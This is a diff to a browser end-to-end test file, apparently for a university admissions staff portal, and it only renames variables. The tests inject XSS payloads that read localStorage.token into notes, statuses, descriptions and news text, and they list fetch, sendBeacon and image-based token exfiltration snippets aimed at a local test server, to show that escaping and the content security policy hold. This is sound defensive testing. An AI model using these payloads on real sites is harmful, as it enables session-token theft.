@@ -14,10 +14,10 @@ const planted = (page: Page) => page.evaluate<unknown>('globalThis.planted')
 const WORDS = `Planted<img src=x onerror="globalThis.planted=localStorage.token"><script>globalThis.planted=localStorage.token</script>`
 
 /** A university of the list that no other journey uses. */
-const PLACE = 31
+const OFFICE_INDEX = 31
 
 test('a script in every free text is plain text for its readers', async ({ browser, baseURL }) => {
-  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, PLACE, 10)
+  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, OFFICE_INDEX, 10)
   const [id = ''] = applicationIds
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const inspector: StaffMember = { ...newStaffMember('Planted'), fullName: `${WORDS}` }
@@ -27,9 +27,9 @@ test('a script in every free text is plain text for its readers', async ({ brows
   await office.post(`/staff/request/${id}/notes`, { text: WORDS })
   const manager = await staffCalls(baseURL, inspector)
   await manager.post(`/staff/request/inspector/update/status/${id}`, { status: 'FAILED', comment: WORDS })
-  const said = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
+  const texts = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
   const { version } = (await office.get('/university/profile')).data
-  await office.post('/university/edit', { tab: 'description', version, ...said })
+  await office.post('/university/edit', { tab: 'description', version, ...texts })
   const titles = { newsTitleKz: WORDS, newsTitleRu: WORDS, newsTitleEn: WORDS }
   const today = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
   const body = `${WORDS}\n\n[link](javascript:globalThis.planted=1) ![x](x" onerror="globalThis.planted=1)`
@@ -99,10 +99,10 @@ test('only the policy keeps a script in a page from running and reaching the tok
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
   for (const [what, code] of Object.entries(ATTEMPTS)) {
-    const kept = await signedIn(browser, person, false)
-    await attempt(kept, code)
-    expect(await planted(kept), what).toBeUndefined()
-    await kept.context().close()
+    const guarded = await signedIn(browser, person, false)
+    await attempt(guarded, code)
+    expect(await planted(guarded), what).toBeUndefined()
+    await guarded.context().close()
   }
   const open = await signedIn(browser, person, true)
   const ran: string[] = []
@@ -117,7 +117,7 @@ test('only the policy keeps a script in a page from running and reaching the tok
 })
 
 /** Ways to send the token to an address, which is filled in. */
-const WAYS_OUT: Readonly<Record<string, string>> = {
+const LEAKS: Readonly<Record<string, string>> = {
   fetch: `fetch('ELSEWHERE?' + localStorage.token)`,
   beacon: `navigator.sendBeacon('ELSEWHERE', localStorage.token)`,
   picture: `new Image().src = 'ELSEWHERE?' + localStorage.token`,
@@ -129,26 +129,26 @@ test('only the policy keeps the token from being sent elsewhere', async ({ brows
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
-  let arrived = 0
+  let received = 0
   const elsewhere = createServer((_request, response) => {
-    arrived += 1
+    received += 1
     response.end()
   }).listen(0, '127.0.0.1')
   await once(elsewhere, 'listening')
   const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
-  const arrivedBy = async (bypassCSP: boolean): Promise<string[]> => {
-    const ways: string[] = []
+  const receivedBy = async (bypassCSP: boolean): Promise<string[]> => {
+    const leaks: string[] = []
     const page = await signedIn(browser, person, bypassCSP)
-    for (const [way, code] of Object.entries(WAYS_OUT)) {
-      arrived = 0
+    for (const [name, code] of Object.entries(LEAKS)) {
+      received = 0
       await attempt(page, code.replace('ELSEWHERE', address))
-      for (let waits = 0; bypassCSP && arrived === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
-      if (arrived > 0) ways.push(way)
+      for (let waits = 0; bypassCSP && received === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
+      if (received > 0) leaks.push(name)
     }
     await page.context().close()
-    return ways
+    return leaks
   }
-  expect(await arrivedBy(false)).toEqual([])
-  expect(await arrivedBy(true)).toEqual(Object.keys(WAYS_OUT))
+  expect(await receivedBy(false)).toEqual([])
+  expect(await receivedBy(true)).toEqual(Object.keys(LEAKS))
   elsewhere.close()
 })
